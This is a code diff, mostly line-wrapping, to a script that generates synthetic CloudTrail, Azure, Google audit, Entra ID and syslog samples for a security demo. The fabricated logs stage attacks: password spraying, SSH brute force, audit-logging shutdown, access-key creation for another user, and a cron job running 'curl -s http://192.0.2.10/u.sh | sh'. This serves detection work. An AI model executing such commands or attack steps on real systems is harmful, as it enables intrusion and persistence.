@@ -65,7 +65,8 @@ function cloudTrail() {
   const account = "444455556666";
   const keys = new Map();
   const user = (userName) => {
-    const known = keys.get(userName) ?? { principalId: `AIDA${d.hex(17).toUpperCase()}`, accessKeyId: `AKIA${d.hex(16).toUpperCase()}` };
+    const known = keys.get(userName)
+      ?? { principalId: `AIDA${d.hex(17).toUpperCase()}`, accessKeyId: `AKIA${d.hex(16).toUpperCase()}` };
     keys.set(userName, known);
     return { type: "IAMUser", principalId: known.principalId, arn: `arn:aws:iam::${account}:user/${userName}`,
       accountId: account, accessKeyId: known.accessKeyId, userName };
@@ -82,7 +83,9 @@ function cloudTrail() {
   });
   const events = [];
   const say = (ms, userIdentity, [source, eventName], sourceIPAddress, more = {}) => {
-    const { region = "eu-west-1", agent = "aws-cli/2.15.30 md/Botocore#2.4.5", error, request = null, response = null, ...rest } = more;
+    const {
+      region = "eu-west-1", agent = "aws-cli/2.15.30 md/Botocore#2.4.5", error, request = null, response = null, ...rest
+    } = more;
     const data = eventName === "GetObject";
     events.push({ ms, record: {
       eventVersion: "1.10", userIdentity, eventTime: seconds(ms), eventSource: `${source}.amazonaws.com`, eventName,
@@ -98,23 +101,29 @@ function cloudTrail() {
     const ids = Array.from({ length: count }, () => `i-0${d.hex(16)}`);
     return {
       region,
-      request: { instancesSet: { items: [{ imageId: `ami-0${d.hex(16)}`, minCount: count, maxCount: count }] }, instanceType },
-      response: { reservationId: `r-0${d.hex(16)}`, ownerId: account, instancesSet: { items: ids.map((instanceId, i) => ({
-        instanceId, amiLaunchIndex: i, instanceState: { code: 0, name: "pending" }, instanceType,
-        placement: { availabilityZone: `${region}a` } })) } },
+      request: {
+        instancesSet: { items: [{ imageId: `ami-0${d.hex(16)}`, minCount: count, maxCount: count }] }, instanceType,
+      },
+      response: { reservationId: `r-0${d.hex(16)}`, ownerId: account, instancesSet: {
+        items: ids.map((instanceId, i) => ({
+          instanceId, amiLaunchIndex: i, instanceState: { code: 0, name: "pending" }, instanceType,
+          placement: { availabilityZone: `${region}a` } })) } },
     };
   };
   const RUN = ["ec2", "RunInstances"];
-  const denied = (action) => ["Client.UnauthorizedOperation", `You are not authorized to perform this operation: ${action}.`];
+  const denied = (action) => ["Client.UnauthorizedOperation",
+    `You are not authorized to perform this operation: ${action}.`];
 
   // The company's day.
   for (let i = 0; i < 36; i++) {
     const ms = d.between(0, 24);
-    say(ms, role("build-pipeline", `run-${4100 + i}`, ms), ["ec2", d.one(["DescribeInstances", "DescribeImages", "DescribeSubnets"])],
+    const read = d.one(["DescribeInstances", "DescribeImages", "DescribeSubnets"]);
+    say(ms, role("build-pipeline", `run-${4100 + i}`, ms), ["ec2", read],
       RUNNER, { agent: "terraform/1.9.8" });
   }
   for (let i = 0; i < 26; i++) {
-    say(d.between(0, 6), user("svc-backup"), d.one([["s3", "GetObject"], ["ec2", "DescribeVolumes"], ["ec2", "DescribeSnapshots"]]),
+    say(d.between(0, 6), user("svc-backup"),
+      d.one([["s3", "GetObject"], ["ec2", "DescribeVolumes"], ["ec2", "DescribeSnapshots"]]),
       "198.51.100.31", { agent: "Boto3/1.34.60", request: null });
   }
   for (let i = 0; i < 8; i++) {
@@ -123,16 +132,21 @@ function cloudTrail() {
       response: { snapshotId: `snap-0${d.hex(16)}`, status: "pending" } });
   }
   for (let i = 0; i < 18; i++) {
-    say(d.between(7, 17), user(d.one(["maria.ops", "jonas.ops"])), ["ec2", d.one(["DescribeInstances", "DescribeSecurityGroups", "DescribeRegions"])],
+    say(d.between(7, 17), user(d.one(["maria.ops", "jonas.ops"])),
+      ["ec2", d.one(["DescribeInstances", "DescribeSecurityGroups", "DescribeRegions"])],
       d.one(OFFICE), { agent: "console.amazonaws.com" });
   }
   for (const [clock, type] of [["06:10", "c6i.large"], ["11:42", "c6i.large"], ["16:05", "c6i.xlarge"]]) {
-    say(at(clock), role("build-pipeline", `run-${clock.replace(":", "")}`, at(clock)), RUN, RUNNER, { agent: "terraform/1.9.8", ...run(type, 1, "eu-central-1") });
-    say(at(clock) + 2_400_000, role("build-pipeline", `run-${clock.replace(":", "")}`, at(clock)), ["ec2", "TerminateInstances"],
+    say(at(clock), role("build-pipeline", `run-${clock.replace(":", "")}`, at(clock)), RUN, RUNNER,
+      { agent: "terraform/1.9.8", ...run(type, 1, "eu-central-1") });
+    say(at(clock) + 2_400_000, role("build-pipeline", `run-${clock.replace(":", "")}`, at(clock)),
+      ["ec2", "TerminateInstances"],
       RUNNER, { agent: "terraform/1.9.8", region: "eu-central-1" });
   }
-  const login = (clock, userName, MFAUsed, ip, ok = true) => say(at(clock), user(userName), ["signin", "ConsoleLogin"], ip, {
-    region: "us-east-1", agent: "Mozilla/5.0 (X11; Linux x86_64) Firefox/136.0", response: { ConsoleLogin: ok ? "Success" : "Failure" },
+  const LOGIN = ["signin", "ConsoleLogin"];
+  const login = (clock, userName, MFAUsed, ip, ok = true) => say(at(clock), user(userName), LOGIN, ip, {
+    region: "us-east-1", agent: "Mozilla/5.0 (X11; Linux x86_64) Firefox/136.0",
+    response: { ConsoleLogin: ok ? "Success" : "Failure" },
     additionalEventData: { LoginTo: "https://console.aws.amazon.com/console/home", MobileVersion: "No", MFAUsed } });
   login("07:02", "maria.ops", "Yes", OFFICE[0]);
   login("07:58", "jonas.ops", "Yes", OFFICE[1], false);
@@ -157,9 +171,11 @@ function cloudTrail() {
   act("01:34", RUN, run("t3.medium", 1));
   act("01:41", ["cloudtrail", "StopLogging"], { request: { name: "lab-trail" } });
   act("01:47", ["iam", "CreateAccessKey"], { region: "us-east-1", request: { userName: "maria.ops" },
-    response: { accessKey: { userName: "maria.ops", status: "Active", accessKeyId: `AKIA${d.hex(16).toUpperCase()}`, createDate: "Mar 10, 2026 1:47:00 AM" } } });
+    response: { accessKey: { userName: "maria.ops", status: "Active", accessKeyId: `AKIA${d.hex(16).toUpperCase()}`,
+      createDate: "Mar 10, 2026 1:47:00 AM" } } });
   act("02:05", RUN, run("g4dn.xlarge", 4, "ap-southeast-2"));
-  act("02:30", ["s3", "PutBucketPolicy"], { error: ["AccessDenied", "Access Denied"], request: { bucketName: "contoso-exports" } });
+  act("02:30", ["s3", "PutBucketPolicy"], { error: ["AccessDenied", "Access Denied"],
+    request: { bucketName: "contoso-exports" } });
   act("03:10", ["ec2", "TerminateInstances"]);
   return byTime(events).map((e) => e.record);
 }
@@ -173,16 +189,19 @@ function cloudTrailRows(records) {
     ["EventSource", (r) => r.eventSource], ["EventTypeName", (r) => r.eventType], ["EventName", (r) => r.eventName],
     ["UserIdentityType", (r) => r.userIdentity.type], ["UserIdentityPrincipalid", (r) => r.userIdentity.principalId],
     ["UserIdentityArn", (r) => r.userIdentity.arn], ["UserIdentityAccountId", (r) => r.userIdentity.accountId],
-    ["UserIdentityAccessKeyId", (r) => r.userIdentity.accessKeyId], ["UserIdentityUserName", (r) => r.userIdentity.userName],
+    ["UserIdentityAccessKeyId", (r) => r.userIdentity.accessKeyId],
+    ["UserIdentityUserName", (r) => r.userIdentity.userName],
     ["SessionMfaAuthenticated", (r) => r.userIdentity.sessionContext?.attributes.mfaAuthenticated],
     ["SessionIssuerArn", (r) => r.userIdentity.sessionContext?.sessionIssuer.arn],
     ["SessionIssuerUserName", (r) => r.userIdentity.sessionContext?.sessionIssuer.userName],
-    ["AWSRegion", (r) => r.awsRegion], ["SourceIpAddress", (r) => r.sourceIPAddress], ["UserAgent", (r) => r.userAgent],
+    ["AWSRegion", (r) => r.awsRegion], ["SourceIpAddress", (r) => r.sourceIPAddress],
+    ["UserAgent", (r) => r.userAgent],
     ["ErrorCode", (r) => r.errorCode], ["ErrorMessage", (r) => r.errorMessage],
     ["RequestParameters", (r) => text(r.requestParameters)], ["ResponseElements", (r) => text(r.responseElements)],
     ["AdditionalEventData", (r) => text(r.additionalEventData)], ["AwsRequestId_", (r) => r.requestID],
     ["ReadOnly", (r) => r.readOnly], ["RecipientAccountId", (r) => r.recipientAccountId],
-    ["ManagementEvent", (r) => r.managementEvent], ["Category", (r) => r.eventCategory], ["Type", () => "AWSCloudTrail"],
+    ["ManagementEvent", (r) => r.managementEvent], ["Category", (r) => r.eventCategory],
+    ["Type", () => "AWSCloudTrail"],
   ];
   return csv(columns.map(([name]) => name), records.map((r) => columns.map(([, of]) => of(r))));
 }
@@ -201,8 +220,10 @@ function azureActivity() {
     const [resultType, resultSignature] = end;
     const failed = resultType === "Failure";
     events.push({ ms, record: {
-      time: iso(ms).replace(/Z$/, `${fraction}Z`), resourceId, operationName: `${provider}/${type}/${verb}`.toUpperCase(),
-      category: verb.endsWith("action") ? "Action" : verb === "delete" ? "Delete" : "Write", resultType, resultSignature,
+      time: iso(ms).replace(/Z$/, `${fraction}Z`), resourceId,
+      operationName: `${provider}/${type}/${verb}`.toUpperCase(),
+      category: verb.endsWith("action") ? "Action" : verb === "delete" ? "Delete" : "Write",
+      resultType, resultSignature,
       durationMs: "0", callerIpAddress: who.ip, correlationId,
       identity: { authorization: { scope: resourceId, action: `${provider}/${type}/${verb}` }, claims: who.claims },
       level: failed ? "Error" : "Information",
@@ -226,10 +247,12 @@ function azureActivity() {
   };
   const COMPUTE = "Microsoft.Compute";
   for (let i = 0; i < 12; i++) {
-    act(d.between(5, 18), deploy, "rg-web", ["Microsoft.Web", "sites", d.one(["shop-api", "shop-web", "status"])], d.one(["write", "restart/action"]));
+    act(d.between(5, 18), deploy, "rg-web", ["Microsoft.Web", "sites", d.one(["shop-api", "shop-web", "status"])],
+      d.one(["write", "restart/action"]));
   }
   for (let i = 0; i < 4; i++) {
-    act(d.between(8, 17), person("ana", OFFICE[2]), "rg-web", ["Microsoft.Network", "networkSecurityGroups", "nsg-web"], "write");
+    act(d.between(8, 17), person("ana", OFFICE[2]), "rg-web",
+      ["Microsoft.Network", "networkSecurityGroups", "nsg-web"], "write");
   }
   act(at("06:20"), deploy, "rg-web", [COMPUTE, "disks", "vm-web-03-os"], "write");
   act(at("06:21"), deploy, "rg-web", [COMPUTE, "virtualMachines", "vm-web-03"], "write");
@@ -249,14 +272,17 @@ function azureActivity() {
 
 function azureActivityRows(records) {
   const segment = (id, name) => new RegExp(`/${name}/([^/]+)`, "i").exec(id)?.[1] ?? "";
-  const header = ["TimeGenerated [UTC]", "CallerIpAddress", "CategoryValue", "CorrelationId", "Level", "OperationNameValue", "Caller",
-    "ResourceGroup", "ResourceProviderValue", "ActivityStatusValue", "ActivitySubstatusValue", "SubscriptionId", "OperationName",
+  const header = ["TimeGenerated [UTC]", "CallerIpAddress", "CategoryValue", "CorrelationId", "Level",
+    "OperationNameValue", "Caller", "ResourceGroup", "ResourceProviderValue", "ActivityStatusValue",
+    "ActivitySubstatusValue", "SubscriptionId", "OperationName",
     "ActivityStatus", "Resource", "Type", "_ResourceId", "Properties"];
   return csv(header, records.map((r) => [
     r.time, r.callerIpAddress, r.properties.eventCategory, r.correlationId, r.level, r.operationName,
     r.identity.claims.name ?? r.identity.claims.appid, segment(r.resourceId, "resourceGroups").toUpperCase(),
-    segment(r.resourceId, "providers").toUpperCase(), r.resultType, r.resultSignature.slice(r.resultSignature.indexOf(".") + 1),
-    SUBSCRIPTION, "", "", r.resourceId.slice(r.resourceId.lastIndexOf("/") + 1), "AzureActivity", r.resourceId.toLowerCase(),
+    segment(r.resourceId, "providers").toUpperCase(), r.resultType,
+    r.resultSignature.slice(r.resultSignature.indexOf(".") + 1),
+    SUBSCRIPTION, "", "", r.resourceId.slice(r.resourceId.lastIndexOf("/") + 1), "AzureActivity",
+    r.resourceId.toLowerCase(),
     JSON.stringify(r.properties.eventProperties)]));
 }
 
@@ -265,10 +291,12 @@ function azureActivityRows(records) {
 function googleAudit() {
   const d = dice(314);
   const project = "contoso-lab-314";
-  const deploy = [`deploy@${project}.iam.gserviceaccount.com`, "198.51.100.44", "google-api-go-client/0.5 Terraform/1.9.8"];
+  const deploy = [`deploy@${project}.iam.gserviceaccount.com`, "198.51.100.44",
+    "google-api-go-client/0.5 Terraform/1.9.8"];
   const ines = ["ines@contoso.example", OFFICE[1], "google-cloud-sdk gcloud/512.0.0"];
   const events = [];
-  const entry = (ms, [principalEmail, callerIp, callerSuppliedUserAgent], methodName, permission, name, zone, more = {}) => {
+  const entry = (ms, [principalEmail, callerIp, callerSuppliedUserAgent], methodName, permission, name, zone,
+    more = {}) => {
     const { status, last, operation } = more;
     const resourceName = `projects/${project}/zones/${zone}/instances/${name}`;
     events.push({ ms, record: {
@@ -277,13 +305,16 @@ function googleAudit() {
         authenticationInfo: { principalEmail }, requestMetadata: { callerIp, callerSuppliedUserAgent },
         serviceName: "compute.googleapis.com", methodName,
         ...(last ? {} : { authorizationInfo: [{ permission, granted: status?.code !== 7, resource: resourceName }] }),
-        resourceName, ...(last ? { request: { "@type": `type.googleapis.com/${methodName.replace(/^(v1|beta)\./, "")}` } } : {}),
+        resourceName,
+        ...(last ? { request: { "@type": `type.googleapis.com/${methodName.replace(/^(v1|beta)\./, "")}` } } : {}),
       },
       insertId: `-${d.hex(11)}`,
-      resource: { type: "gce_instance", labels: { project_id: project, instance_id: String(4_000_000_000_000_000_000n + BigInt(d.upTo(2 ** 31))), zone } },
+      resource: { type: "gce_instance", labels: { project_id: project,
+        instance_id: String(4_000_000_000_000_000_000n + BigInt(d.upTo(2 ** 31))), zone } },
       timestamp: `${iso(ms).slice(0, -1)}${d.upTo(900) + 100}Z`, severity: status?.code ? "ERROR" : "NOTICE",
       logName: `projects/${project}/logs/cloudaudit.googleapis.com%2Factivity`,
-      ...(operation === undefined ? {} : { operation: { id: operation, producer: "compute.googleapis.com", ...(last ? { last: true } : { first: true }) } }),
+      ...(operation === undefined ? {} : { operation:
+        { id: operation, producer: "compute.googleapis.com", ...(last ? { last: true } : { first: true }) } }),
       receiveTimestamp: `${iso(ms + 900).slice(0, -1)}${d.upTo(900_000) + 100_000}Z`,
     } });
   };
@@ -294,7 +325,8 @@ function googleAudit() {
     entry(ms + 14_000 + d.upTo(9_000), who, method, permission, name, zone, { operation, last: true });
   };
   for (let i = 0; i < 9; i++) {
-    long(d.between(5, 19), deploy, d.one(["v1.compute.instances.setMetadata", "v1.compute.instances.setLabels", "v1.compute.instances.stop"]),
+    long(d.between(5, 19), deploy, d.one(["v1.compute.instances.setMetadata", "v1.compute.instances.setLabels",
+      "v1.compute.instances.stop"]),
       "compute.instances.update", `web-${1 + d.upTo(4)}`, "europe-west1-b");
   }
   long(at("07:30"), deploy, "v1.compute.instances.insert", "compute.instances.create", "web-5", "europe-west1-b");
@@ -305,7 +337,8 @@ function googleAudit() {
   entry(at("10:10"), ines, "beta.compute.instances.insert", "compute.instances.create", "ines-test", "europe-west4-a",
     { status: { code: 8, message: "QUOTA_EXCEEDED" } });
   for (let i = 0; i < 6; i++) {
-    entry(d.between(0, 24), deploy, "v1.compute.disks.createSnapshot", "compute.disks.createSnapshot", `web-${1 + d.upTo(4)}`, "europe-west1-b");
+    entry(d.between(0, 24), deploy, "v1.compute.disks.createSnapshot", "compute.disks.createSnapshot",
+      `web-${1 + d.upTo(4)}`, "europe-west1-b");
   }
   return byTime(events).map((e) => e.record);
 }
@@ -313,26 +346,35 @@ function googleAudit() {
 // ── Entra ID ─────────────────────────────────────────────────────────────────────────────────────────────────────
 
 const REASONS = new Map([
-  ["0", ""], ["50126", "Invalid username or password."], ["50053", "Account is locked."], ["50074", "Strong authentication is required."],
+  ["0", ""], ["50126", "Invalid username or password."], ["50053", "Account is locked."],
+  ["50074", "Strong authentication is required."],
 ]);
 
 function signIns() {
   const d = dice(50126);
-  const people = ["ana", "ben", "carla", "dev", "emil", "fay", "gus", "hana", "ines", "jonas", "kim", "leo", "maria", "nils", "olga",
+  const people = ["ana", "ben", "carla", "dev", "emil", "fay", "gus", "hana", "ines", "jonas", "kim", "leo",
+    "maria", "nils", "olga",
     "pia", "quinn", "rosa", "sven", "tara", "udo", "vera", "wim", "xenia", "yan", "zoe"];
   const rows = [];
   const say = (ms, name, ResultType, ip, country, more = {}) => rows.push({ ms, row: {
-    TimeGenerated: ticks(ms), OperationName: "Sign-in activity", Category: "SignInLogs", ResultType, ResultDescription: REASONS.get(ResultType),
-    CorrelationId: d.guid(), Identity: name, Location: country, AppDisplayName: more.app ?? "Office 365 Exchange Online",
+    TimeGenerated: ticks(ms), OperationName: "Sign-in activity", Category: "SignInLogs", ResultType,
+    ResultDescription: REASONS.get(ResultType),
+    CorrelationId: d.guid(), Identity: name, Location: country,
+    AppDisplayName: more.app ?? "Office 365 Exchange Online",
     AuthenticationRequirement: more.second ?? "multiFactorAuthentication", ClientAppUsed: more.client ?? "Browser",
     ConditionalAccessStatus: ResultType === "0" ? "success" : "notApplied", IPAddress: ip, IsInteractive: true,
     UserAgent: more.agent ?? "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edg/134.0",
     UserPrincipalName: `${name}@contoso.example`, UserType: "Member", Type: "SigninLogs" } });
-  for (let i = 0; i < 96; i++) say(d.between(6, 19), d.one(people), d.chance(0.06) ? "50126" : d.chance(0.05) ? "50074" : "0", d.one(OFFICE), "DE",
-    { app: d.one(["Office 365 Exchange Online", "Microsoft Teams", "Azure Portal"]) });
-  const quiet = { client: "Authenticated SMTP", second: "singleFactorAuthentication", agent: "python-requests/2.32.3" };
-  people.forEach((name, i) => say(at("01:00") + i * 205_000 + d.upTo(40_000), name, i % 9 === 8 ? "50053" : "50126", INTRUDER, "NL", quiet));
-  say(at("02:36"), "leo", "0", INTRUDER, "NL", { second: "singleFactorAuthentication", app: "Azure Portal", agent: quiet.agent });
+  for (let i = 0; i < 96; i++) {
+    say(d.between(6, 19), d.one(people), d.chance(0.06) ? "50126" : d.chance(0.05) ? "50074" : "0", d.one(OFFICE), "DE",
+      { app: d.one(["Office 365 Exchange Online", "Microsoft Teams", "Azure Portal"]) });
+  }
+  const quiet = { client: "Authenticated SMTP", second: "singleFactorAuthentication",
+    agent: "python-requests/2.32.3" };
+  people.forEach((name, i) => say(at("01:00") + i * 205_000 + d.upTo(40_000), name, i % 9 === 8 ? "50053" : "50126",
+    INTRUDER, "NL", quiet));
+  say(at("02:36"), "leo", "0", INTRUDER, "NL", { second: "singleFactorAuthentication", app: "Azure Portal",
+    agent: quiet.agent });
   const columns = Object.keys(rows[0].row);
   return csv(columns, byTime(rows).map(({ row }) => columns.map((c) => row[c])));
 }
@@ -343,32 +385,40 @@ function syslog() {
   const d = dice(22);
   const rows = [];
   let pid = 31_000;
-  const say = (ms, Computer, Facility, SeverityLevel, ProcessName, SyslogMessage, ProcessID = pid++) => rows.push({ ms, row: {
-    TimeGenerated: iso(ms), Computer, EventTime: seconds(ms), Facility, HostName: Computer, SeverityLevel, SyslogMessage,
-    ProcessID, HostIP: Computer === "jump-01" ? "192.0.2.21" : "192.0.2.22", ProcessName, CollectorHostName: "syslog-01", Type: "Syslog" } });
+  const say = (ms, Computer, Facility, SeverityLevel, ProcessName, SyslogMessage) => rows.push({ ms, row: {
+    TimeGenerated: iso(ms), Computer, EventTime: seconds(ms), Facility, HostName: Computer, SeverityLevel,
+    SyslogMessage, ProcessID: pid++, HostIP: Computer === "jump-01" ? "192.0.2.21" : "192.0.2.22", ProcessName,
+    CollectorHostName: "syslog-01", Type: "Syslog" } });
   const sshd = (ms, text, level = "info") => say(ms, "jump-01", "auth", level, "sshd", text);
   for (let i = 0; i < 44; i++) {
-    const name = d.one(["root", "backup", "backup", "backup", "invalid user admin", "invalid user oracle", "invalid user test"]);
-    sshd(at("00:20") + i * 50_000 + d.upTo(20_000), `Failed password for ${name} from ${GUESSER} port ${40_000 + d.upTo(20_000)} ssh2`);
+    const name = d.one(["root", "backup", "backup", "backup", "invalid user admin", "invalid user oracle",
+      "invalid user test"]);
+    sshd(at("00:20") + i * 50_000 + d.upTo(20_000),
+      `Failed password for ${name} from ${GUESSER} port ${40_000 + d.upTo(20_000)} ssh2`);
   }
   sshd(at("00:58:12"), `Accepted password for backup from ${GUESSER} port 51514 ssh2`);
   sshd(at("00:58:12") + 300, "pam_unix(sshd:session): session opened for user backup(uid=1007) by (uid=0)");
   say(at("01:02"), "jump-01", "cron", "info", "crontab", "(backup) REPLACE (backup)");
   for (let i = 0; i < 6; i++) {
-    say(at("01:05:01") + i * 300_000, "jump-01", "cron", "info", "CRON", "(backup) CMD (curl -s http://192.0.2.10/u.sh | sh)");
+    say(at("01:05:01") + i * 300_000, "jump-01", "cron", "info", "CRON",
+      "(backup) CMD (curl -s http://192.0.2.10/u.sh | sh)");
   }
   for (let i = 0; i < 24; i++) {
-    say(i * 3_600_000 + 17 * 60_000 + 1_000, "web-01", "cron", "info", "CRON", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)");
+    say(i * 3_600_000 + 17 * 60_000 + 1_000, "web-01", "cron", "info", "CRON",
+      "(root) CMD (cd / && run-parts --report /etc/cron.hourly)");
   }
   for (let i = 0; i < 10; i++) {
     const [name, ip] = d.one([["maria", OFFICE[0]], ["jonas", OFFICE[1]]]);
     const ms = d.between(7, 17);
     if (d.chance(0.3)) sshd(ms - 9_000, `Failed password for ${name} from ${ip} port ${50_000 + d.upTo(9_000)} ssh2`);
-    sshd(ms, `Accepted publickey for ${name} from ${ip} port ${50_000 + d.upTo(9_000)} ssh2: ED25519 SHA256:${d.hex(22)}`);
-    say(ms + 40_000, "jump-01", "authpriv", "notice", "sudo", `${name} : TTY=pts/0 ; PWD=/home/${name} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx`);
+    const port = 50_000 + d.upTo(9_000);
+    sshd(ms, `Accepted publickey for ${name} from ${ip} port ${port} ssh2: ED25519 SHA256:${d.hex(22)}`);
+    say(ms + 40_000, "jump-01", "authpriv", "notice", "sudo",
+      `${name} : TTY=pts/0 ; PWD=/home/${name} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx`);
   }
   for (let i = 0; i < 7; i++) {
-    sshd(d.between(2, 23), `Failed password for invalid user ${d.one(["ubuntu", "pi", "git"])} from 192.0.2.${100 + d.upTo(90)} port ${40_000 + d.upTo(9_000)} ssh2`);
+    const name = d.one(["ubuntu", "pi", "git"]);
+    sshd(d.between(2, 23), `Failed password for invalid user ${name} from 192.0.2.${100 + d.upTo(90)} port 40022 ssh2`);
   }
   const columns = Object.keys(rows[0].row);
   return csv(columns, byTime(rows).map(({ row }) => columns.map((c) => row[c])));
@@ -389,7 +439,8 @@ const files = new Map([
 ]);
 
 if (process.argv.includes("--check")) {
-  const stale = [...files].filter(([name, text]) => readFileSync(join(folder, name), "utf8") !== text).map(([name]) => name);
+  const stale = [...files].filter(([name, text]) => readFileSync(join(folder, name), "utf8") !== text)
+    .map(([name]) => name);
   if (stale.length > 0) {
     process.stderr.write(`Stale in demo/Samples: ${stale.join(", ")}. Run \`node scripts/demo-samples.mjs\`.\n`);
     process.exitCode = 1;
